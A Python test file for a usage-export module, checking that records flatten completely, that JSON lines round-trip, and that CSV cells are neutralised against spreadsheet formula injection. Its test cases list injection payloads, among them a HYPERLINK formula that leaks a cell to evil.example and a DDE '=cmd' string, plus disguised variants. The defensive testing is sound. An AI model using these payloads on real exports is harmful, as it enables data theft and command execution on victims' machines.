"""Records as text: nothing is lost in JSON, and nothing in CSV is taken for a formula."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.usage.export import COLUMNS, FORMATS, csv_line, flat, harmless, jsonl_line
from tests.storage.usage_samples import STORABLE, record, records


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_record_is_flat_and_complete() -> None:
    assert flat(record(event_id="evt_1", ended_ms=1_795_000_000_123, request_id="r"), "acme") == {
        "event_id": "evt_1", "ended_at": "2026-11-18T11:06:40.123Z", "tenant": "acme", "key_id": "key_1", "user_id": "",
        "route": "openai.transcriptions", "method": "POST", "status": 200, "outcome": "ok", "code": "",
        "request_id": "r", "audio_ms": 2_500, "audio_source": "walked", "walked_ms": 2_500, "reported_ms": 2_480,
        "estimated_ms": None, "discrepant": False, "channels": 1, "container": "wav", "codec": "pcm_s16le",
        "model": "whisper-1", "language": "en", "response_format": "json", "input_tokens": None,
        "output_tokens": None, "bytes_in": 80_044, "bytes_out": 67, "duration_us": 120_500, "upstream_us": 119_000,
        "attempt": 1, "job": "", "before_ms": None,
    }  # fmt: skip


@given(records(texts=STORABLE))
def test_a_json_line_is_one_line_and_reads_back_equal(made) -> None:
    line = jsonl_line(flat(made, "acme"))
    assert line.count("\n") == 1
    assert json.loads(line) == flat(made, "acme")


@given(records(texts=STORABLE))
def test_a_csv_record_has_its_columns_and_no_formula(made) -> None:
    facts = flat(made, "acme")
    ((*cells,),) = read_csv(csv_line(facts))
    assert len(cells) == len(COLUMNS)
    for cell, fact in zip(cells, facts.values(), strict=True):
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
        written = str(fact).lower() if isinstance(fact, bool) else "" if fact is None else str(fact)
        assert cell.replace("'", "") == written.replace("'", "")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1",
        "\N{FULLWIDTH EQUALS SIGN}1", "\N{FULLWIDTH PLUS SIGN}1", "\N{FULLWIDTH HYPHEN-MINUS}1",
        "\N{FULLWIDTH COMMERCIAL AT}1", "=cmd|' /C calc'!A0", "\N{NO-BREAK SPACE}=1",
    ],
)  # fmt: skip
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    """T-10: whatever a spreadsheet would run, also in full width and behind blanks."""
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ("a;=cmd|' /C calc'!A0;", "a;'=cmd|' /C calc'!A0;"), ("=1; -2;b; 3-4", "'=1;' -2;b; 3-4"), ("a;b;", "a;b;"),
        ("\N{ZERO WIDTH NO-BREAK SPACE}=1", "'\N{ZERO WIDTH NO-BREAK SPACE}=1"),
        ("\N{ZERO WIDTH SPACE}@a", "'\N{ZERO WIDTH SPACE}@a"),
    ],
)  # fmt: skip
def test_neither_does_one_behind_a_semicolon_or_what_is_not_seen(text: str, made: str) -> None:
    """Half of the world's spreadsheets part cells there."""
    assert harmless(text) == made


@given(st.text(st.characters(categories=["L", "N"]), max_size=20))
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_the_heading_names_the_columns() -> None:
    assert read_csv(FORMATS["csv"][0]) == [list(COLUMNS)]
